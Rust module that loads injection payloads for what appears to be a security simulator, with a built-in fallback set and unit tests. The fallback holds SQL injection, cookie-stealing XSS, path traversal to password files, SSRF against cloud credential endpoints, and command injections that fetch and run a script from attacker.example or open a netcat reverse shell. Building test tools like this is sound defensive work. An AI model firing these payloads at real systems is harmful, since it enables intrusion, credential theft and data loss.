//! Attack payloads: read at run time from the shared payload lists, with a small built-in set
//! of classic payloads when no list directory is available. The corpus itself is never embedded.

use std::path::{Path, PathBuf};

use crate::error::SimError;

/// Most payloads kept per family (sampled evenly through the list).
const MAX_PER_FAMILY: usize = 400;
/// Longest payload kept (bytes).
const MAX_PAYLOAD_LEN: usize = 2_000;

/// An injection family.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Family {
    Sqli,
    Xss,
    Cmdi,
    Traversal,
    Ssrf,
}

impl Family {
    fn file_stem(self) -> &'static str {
        match self {
            Family::Sqli => "sqli",
            Family::Xss => "xss",
            Family::Cmdi => "cmdi",
            Family::Traversal => "traversal",
            Family::Ssrf => "ssrf",
        }
    }

    /// A few classic payloads per family, written for the simulator.
    fn builtin(self) -> &'static [&'static str] {
        match self {
            Family::Sqli => &[
                "' OR '1'='1",
                "1' OR 1=1-- -",
                "admin'--",
                "1 UNION SELECT username, password FROM users--",
                "1; DROP TABLE orders--",
                "1' AND SLEEP(5)#",
                "' OR 1=1 LIMIT 1 OFFSET 1--",
            ],
            Family::Xss => &[
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(document.cookie)>",
                "<svg/onload=alert('xss')>",
                "javascript:alert(1)",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "'><body onload=alert(1)>",
            ],
            Family::Cmdi => &[
                "; cat /etc/passwd",
                "| id",
                "`whoami`",
                "$(curl http://attacker.example/x.sh | sh)",
                "&& ping -c 3 127.0.0.1",
                "; nc -e /bin/sh 198.51.100.7 4444",
            ],
            Family::Traversal => &[
                "../../../../etc/passwd",
                "..%2f..%2f..%2f..%2fetc%2fshadow",
                "....//....//....//etc/hosts",
                "..\\..\\..\\windows\\win.ini",
                "/var/www/../../etc/passwd",
                "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
            ],
            Family::Ssrf => &[
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://127.0.0.1:8080/admin",
                "http://localhost:6379/",
                "file:///etc/passwd",
                "http://[::1]:22/",
                "http://metadata.google.internal/computeMetadata/v1/",
                "gopher://127.0.0.1:25/_HELO",
            ],
        }
    }
}

/// The payload lists of one run.
#[derive(Clone, Debug)]
pub(crate) struct Payloads {
    pub(crate) sqli: Vec<String>,
    pub(crate) xss: Vec<String>,
    pub(crate) cmdi: Vec<String>,
    pub(crate) traversal: Vec<String>,
    pub(crate) ssrf: Vec<String>,
    /// Where the lists came from (`None` = built-in set).
    pub(crate) dir: Option<PathBuf>,
}

impl Payloads {
    pub(crate) fn get(&self, family: Family) -> &[String] {
        match family {
            Family::Sqli => &self.sqli,
            Family::Xss => &self.xss,
            Family::Cmdi => &self.cmdi,
            Family::Traversal => &self.traversal,
            Family::Ssrf => &self.ssrf,
        }
    }

    /// Loads from `dir` (an explicit directory must exist) or the default locations.
    pub(crate) fn load(dir: Option<&Path>) -> Result<Payloads, SimError> {
        let dir = match dir {
            Some(d) => {
                if !d.is_dir() {
                    return Err(SimError::Io {
                        path: d.to_path_buf(),
                        source: std::io::Error::new(
                            std::io::ErrorKind::NotFound,
                            "payload directory does not exist",
                        ),
                    });
                }
                Some(d.to_path_buf())
            }
            None => default_dir(),
        };
        let load = |f: Family| -> Result<Vec<String>, SimError> {
            match &dir {
                Some(d) => {
                    read_family(d, f).map(|list| if list.is_empty() { builtin(f) } else { list })
                }
                None => Ok(builtin(f)),
            }
        };
        Ok(Payloads {
            sqli: load(Family::Sqli)?,
            xss: load(Family::Xss)?,
            cmdi: load(Family::Cmdi)?,
            traversal: load(Family::Traversal)?,
            ssrf: load(Family::Ssrf)?,
            dir,
        })
    }
}

fn default_dir() -> Option<PathBuf> {
    ["../shared/data/injection", "./shared/data/injection"]
        .into_iter()
        .map(PathBuf::from)
        .find(|p| p.is_dir())
}

fn builtin(f: Family) -> Vec<String> {
    f.builtin().iter().map(|s| s.to_string()).collect()
}

/// `payloadsallthethings/<family>.txt`, else `fuzzdb/<family>.txt`, else `<family>.txt`;
/// an empty list when none exists.
fn read_family(dir: &Path, f: Family) -> Result<Vec<String>, SimError> {
    let candidates = [
        dir.join("payloadsallthethings")
            .join(format!("{}.txt", f.file_stem())),
        dir.join("fuzzdb").join(format!("{}.txt", f.file_stem())),
        dir.join(format!("{}.txt", f.file_stem())),
    ];
    let Some(path) = candidates.iter().find(|p| p.is_file()) else {
        return Ok(Vec::new());
    };
    let bytes = std::fs::read(path).map_err(|source| SimError::Io {
        path: path.clone(),
        source,
    })?;
    let text = String::from_utf8_lossy(&bytes);
    let lines: Vec<&str> = text
        .lines()
        .filter(|l| !l.trim().is_empty() && l.len() <= MAX_PAYLOAD_LEN && !l.contains(['\r', '\0']))
        .collect();
    let stride = lines.len().div_ceil(MAX_PER_FAMILY).max(1);
    Ok(lines
        .iter()
        .step_by(stride)
        .map(|s| s.to_string())
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_set_is_used_without_a_directory() {
        let p = Payloads {
            sqli: builtin(Family::Sqli),
            xss: builtin(Family::Xss),
            cmdi: builtin(Family::Cmdi),
            traversal: builtin(Family::Traversal),
            ssrf: builtin(Family::Ssrf),
            dir: None,
        };
        for f in [
            Family::Sqli,
            Family::Xss,
            Family::Cmdi,
            Family::Traversal,
            Family::Ssrf,
        ] {
            assert!(p.get(f).len() >= 5);
        }
    }

    #[test]
    fn the_shared_lists_load() {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/injection");
        if !dir.is_dir() {
            return; // the shared corpus is not checked out beside the repository
        }
        let p = Payloads::load(Some(&dir)).unwrap();
        assert!(p.sqli.len() > 100 && p.sqli.len() <= MAX_PER_FAMILY + 1);
        assert!(
            p.ssrf.iter().all(|s| s.contains("://")),
            "ssrf lines are URLs"
        );
        assert_eq!(p.dir.as_deref(), Some(dir.as_path()));
    }

    #[test]
    fn a_missing_explicit_directory_is_an_error() {
        let err = Payloads::load(Some(Path::new("/nonexistent/payloads")))
            .unwrap_err()
            .to_string();
        assert!(err.contains("/nonexistent/payloads"), "{err}");
    }
}
